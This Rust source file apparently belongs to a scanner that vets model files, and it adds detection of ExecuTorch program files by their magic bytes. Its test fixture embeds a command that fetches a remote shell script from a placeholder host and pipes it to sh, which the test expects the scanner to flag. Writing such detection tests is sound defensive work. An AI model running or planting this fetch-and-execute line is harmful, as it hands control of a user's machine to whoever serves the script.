//! ExecuTorch programs: flat buffers of operators for small devices.
//!
//! Operators outside of torch's own are backends of the device and are said by their texts only;
//! texts that hold commands are reported.

use crate::fact::Facts;
use crate::format::{Claim, Format, Item, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "executorch",
    title: "ExecuTorch program",
    family: "executorch",
    wants,
    read,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    let id = probe.head().get(4..6);
    (id == Some(b"ET".as_slice()) && probe.head().get(6).is_some_and(u8::is_ascii_digit))
        .then_some(Claim::Magic)
}

fn read(item: &Item<'_>, facts: &mut Facts) {
    search(item, facts);
}

#[cfg(test)]
pub(crate) mod tests {
    use crate::finding::Verdict;
    use crate::vet;

    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"\x1c\0\0\0ET12\x14\0".to_vec(),
            b"\x1c\0\0\0ET12os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn commands_in_it_are_found() {
        let [good, bad] = &samples()[..] else { panic!() };
        assert_eq!(vet("m.pte", good).verdict, Verdict::NothingFound);
        assert!(vet("m.pte", bad).verdict.is_flagged());
    }
}
